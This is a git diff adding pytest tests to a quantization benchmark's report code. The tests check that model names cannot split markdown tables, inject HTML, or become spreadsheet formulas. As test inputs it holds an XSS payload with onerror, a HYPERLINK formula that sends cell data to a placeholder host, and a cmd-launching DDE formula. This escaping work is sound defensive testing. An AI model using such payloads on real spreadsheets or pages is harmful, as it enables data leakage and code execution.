@@ -86,3 +86,58 @@ def test_a_gguf_of_deeply_nested_arrays_is_one_line(tmp_path):
     file = _gguf(tmp_path, struct.pack("<Q", 1) + b"k" + value, n_tensors=0, n_kv=1)
     with pytest.raises(RecipeError, match="arrays nested more than 8 deep"):
         inspect_source(str(file))
+
+
+def _copied_run_with_names(tmp_path: Path, names: dict[int, str]) -> Path:
+    """results/quickstart with row i's model renamed names[i] (rows sealed again, as an editor of a folder could)."""
+    import json
+    import shutil
+
+    from ptq_bench.results import Row
+
+    run_dir = tmp_path / "quickstart"
+    shutil.copytree(Path(__file__).resolve().parents[1] / "results" / "quickstart", run_dir)
+    lines = (run_dir / "results.jsonl").read_text().splitlines()
+    rows = [Row.from_dict({**json.loads(line), **({"model": names[i]} if i in names else {})}) for i, line in
+            enumerate(lines)]
+    rows = [r.sealed() if r.schema >= 3 else r for r in rows]  # schema-2 rows carry no sha256
+    (run_dir / "results.jsonl").write_text("".join(r.to_json() + "\n" for r in rows))
+    return run_dir
+
+
+def test_a_copied_folders_names_become_neither_table_structure_nor_html_nor_formulas(tmp_path):
+    """Rows are text anyone can write: a model named "two\\nlines <img src=x onerror=...>" split its markdown row in
+    two and put raw HTML into table.md (and into the notebook, which displays it as Markdown), and one named
+    =HYPERLINK(...) was a formula in table.csv."""
+    import csv
+
+    html, formula = "two\nlines | <img src=x onerror=alert(1)>", '=HYPERLINK("http://example.invalid/?"&A1,"x")'
+    run_dir = _copied_run_with_names(tmp_path, {0: html, 1: formula})
+    assert main(["report", str(run_dir)]) == 0
+    md = (run_dir / "table.md").read_text()
+    assert "damaged" not in md
+    table = [line for line in md.splitlines() if line.startswith("|")]
+    assert len({line.replace(r"\|", "").count("|") for line in table}) == 1  # every row has the header's cells
+    assert "<img" not in "".join(table) and "two lines \\| &lt;img src=x onerror=alert(1)&gt;" in md
+    assert "- `two lines | <img src=x onerror=alert(1)>` before training" in md  # one line, in a code span: text
+    cells = [row[0] for row in csv.reader((run_dir / "table.csv").open())]
+    assert "'" + formula in cells and not [c for c in cells if c[:1] in "=@+"]
+
+
+@pytest.mark.parametrize(("text", "shown"), [("-x_1.5", "-x_1.5"), ("-1.5", "-1.5"), ("+inf", "+inf"),
+                                             ("fp16", "fp16"), ("=1+1", "'=1+1"), ("@SUM(A1)", "'@SUM(A1)"),
+                                             ("-2+cmd|' /C calc'!A0", "'-2+cmd|' /C calc'!A0")])
+def test_csv_text_leaves_plain_names_and_numbers(text, shown):
+    """The names a recipe can give (plain names) and numbers print as they are; only what could be a formula with
+    a function call or a reference to another program gets the leading quote."""
+    from ptq_bench.report.fmt import csv_text
+
+    assert csv_text(text) == shown
+
+
+def test_a_note_holding_html_outside_its_code_spans_is_escaped():
+    """A note names a model in a code span (`name`): a name closing the span early put its HTML outside it."""
+    from ptq_bench.report.fmt import md_line
+
+    assert md_line("- `x` <img src=y>` before\ntraining") == "- `x` &lt;img src=y&gt;` before training"
+    assert md_line("- `<task>/acc` & more <b>") == "- `<task>/acc` &amp; more &lt;b&gt;"
